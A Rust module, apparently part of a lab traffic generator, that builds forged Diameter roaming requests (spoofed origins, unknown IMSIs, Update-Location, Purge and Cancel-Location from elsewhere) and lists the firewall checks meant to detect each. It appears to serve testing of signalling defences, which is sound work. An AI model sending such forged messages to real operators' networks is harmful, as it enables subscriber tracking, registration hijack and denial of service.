//! Attacks of the publicly described kinds: commands and applications that are not for interconnection, false origins, and
//! subscribers that are elsewhere.

use diameter_proto::MessageBuilder;
use diameter_proto::known::{self, application, command};

use callmodel::roaming::{HOME, Network};
use loadgen::diameter::Introduction;

/// Reset (TS 29.272 §7.2.15), which foreign networks have no use for.
const RESET: u32 = 322;
/// Location-Info of Cx (TS 29.229 §6.1.5).
const LOCATION_INFO: u32 = 302;
/// NO_STATE_MAINTAINED (RFC 6733 §8.11).
const NO_STATE: i32 = 1;
/// RAT-Type EUTRAN, and WLAN, which no MME has (TS 29.212 §5.3.31).
const EUTRAN: i32 = 1004;
const WLAN: i32 = 0;
/// An IMSI of no network.
const UNKNOWN: u64 = 999_990_000_000_001;

/// An attack.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub(super) enum Attack {
    Application,
    Command,
    HomeOrigin,
    OtherHost,
    OtherNetwork,
    Stranger,
    BarredValue,
    Incomplete,
    Abduction,
    Purge,
    Cancellation,
}

impl Attack {
    pub(super) const ALL: [Self; 11] = [
        Self::Application,
        Self::Command,
        Self::HomeOrigin,
        Self::OtherHost,
        Self::OtherNetwork,
        Self::Stranger,
        Self::BarredValue,
        Self::Incomplete,
        Self::Abduction,
        Self::Purge,
        Self::Cancellation,
    ];

    /// For reports.
    pub(super) const fn name(self) -> &'static str {
        match self {
            Self::Application => "application not for interconnection",
            Self::Command => "command not for interconnection",
            Self::HomeOrigin => "home network as the origin",
            Self::OtherHost => "host of another realm",
            Self::OtherNetwork => "another visited network",
            Self::Stranger => "IMSI of no network",
            Self::BarredValue => "value that is barred",
            Self::Incomplete => "mandatory AVP left out",
            Self::Abduction => "registration in another country",
            Self::Purge => "purge from elsewhere",
            Self::Cancellation => "cancellation from elsewhere",
        }
    }

    /// The measures that find it, each by itself.
    pub(super) const fn found_by(self) -> &'static [&'static str] {
        match self {
            Self::Application => &["AppIdWL", "AppCmdCst"],
            Self::Command => &["AppCmdCst"],
            Self::HomeOrigin => &["DrOrMatch", "RealmWLScr"],
            Self::OtherHost => &["OhOrCstChk"],
            Self::OtherNetwork => &["VplmnORCst"],
            Self::Stranger => &["SubsIdenValid", "RealmIMSICst"],
            Self::BarredValue => &["SpecAVPScr"],
            Self::Incomplete => &["AVPInstChk"],
            Self::Abduction => &["TimeDistChk", "SrcHostValMme"],
            Self::Purge => &["PreLocChk", "SrcHostValMme"],
            Self::Cancellation => &["SrcHostValHss", "RealmIMSICst"],
        }
    }

    const fn command(self) -> (u32, u32) {
        match self {
            Self::Application => (application::CX, LOCATION_INFO),
            Self::Command => (application::S6A, RESET),
            Self::BarredValue | Self::Abduction => (application::S6A, command::UPDATE_LOCATION),
            Self::Purge => (application::S6A, command::PURGE_UE),
            Self::Cancellation => (application::S6A, command::CANCEL_LOCATION),
            _ => (application::S6A, command::AUTHENTICATION_INFORMATION),
        }
    }
}

/// Who attacks whom.
pub(super) struct Attacker<'a> {
    pub(super) own: &'a Introduction,
    pub(super) network: Network,
    /// The network where the subscriber is.
    pub(super) elsewhere: Network,
    pub(super) session: u32,
    pub(super) imsi: u64,
}

impl Attacker<'_> {
    /// The request of an attack.
    pub(super) fn message(&self, attack: Attack) -> MessageBuilder {
        let (app, code) = attack.command();
        let (host, realm) = self.origin(attack);
        let home = HOME.realm();
        let mut message = MessageBuilder::request(code, app);
        message.put(known::SESSION_ID, &format!("{host};{:010};lab", self.session));
        message.group(known::VENDOR_SPECIFIC_APPLICATION_ID, |group| {
            group
                .put(known::VENDOR_ID, known::VENDOR_3GPP)
                .put(known::AUTH_APPLICATION_ID, app);
        });
        if attack != Attack::Incomplete {
            message.put(known::AUTH_SESSION_STATE, NO_STATE);
        }
        message
            .put(known::ORIGIN_HOST, &host)
            .put(known::ORIGIN_REALM, &realm)
            .put(known::DESTINATION_REALM, &home);
        let imsi = if attack == Attack::Stranger {
            UNKNOWN
        } else {
            self.imsi
        };
        match code {
            LOCATION_INFO => message.put(known::PUBLIC_IDENTITY, &format!("sip:{imsi:015}@ims.{home}")),
            RESET => message.put(known::DESTINATION_HOST, &format!("mme.{home}")),
            _ => message.put(known::USER_NAME, &format!("{imsi:015}")),
        };
        let visited = match attack {
            Attack::OtherNetwork => self.elsewhere,
            _ => self.network,
        };
        match code {
            command::UPDATE_LOCATION => {
                let rat = if attack == Attack::BarredValue {
                    WLAN
                } else {
                    EUTRAN
                };
                // Single-Registration-Indication and Initial-Attach-Indicator are left out (TS 29.272 §7.3.7).
                message.put(known::RAT_TYPE, rat).put(known::ULR_FLAGS, 2);
                message.put(known::VISITED_PLMN_ID, &visited.plmn());
            }
            command::AUTHENTICATION_INFORMATION => {
                message.put(known::VISITED_PLMN_ID, &visited.plmn());
            }
            command::CANCEL_LOCATION => {
                // MME_UPDATE_PROCEDURE (TS 29.272 §7.3.24)
                message
                    .put(known::DESTINATION_HOST, &format!("mme.{home}"))
                    .put(known::CANCELLATION_TYPE, 0);
            }
            _ => {}
        }
        message
    }

    /// Origin-Host and Origin-Realm.
    fn origin(&self, attack: Attack) -> (String, String) {
        let own = &self.own.origin;
        match attack {
            Attack::HomeOrigin => (format!("mme.{}", HOME.realm()), HOME.realm()),
            Attack::OtherHost => (format!("mme.{}", self.elsewhere.realm()), own.realm.clone()),
            _ => (own.host.clone(), own.realm.clone()),
        }
    }
}
